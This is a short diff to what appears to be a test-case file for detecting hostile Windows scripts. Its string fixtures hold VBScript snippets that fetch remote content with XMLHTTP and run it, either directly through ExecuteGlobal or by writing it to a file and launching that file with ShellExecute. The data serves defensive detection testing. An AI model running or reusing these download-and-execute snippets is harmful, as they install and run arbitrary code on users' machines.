@@ -41,7 +41,7 @@ WINDOWS: tuple[Case, ...] = (
             ),
             'Set h = CreateObject("Microsoft.XMLHTTP")\nExecuteGlobal h.ResponseText\n',
             (
-                'h = CreateObject("msxml2.serverxmlhttp.6.0")\nf.CreateTextFile(p).Write h.responseText'
+                'h=CreateObject("msxml2.serverxmlhttp")\nf.OpenTextFile(p).Write h.ResponseText'
                 '\nCreateObject("Shell.Application").ShellExecute p\n'
             ),
         ),
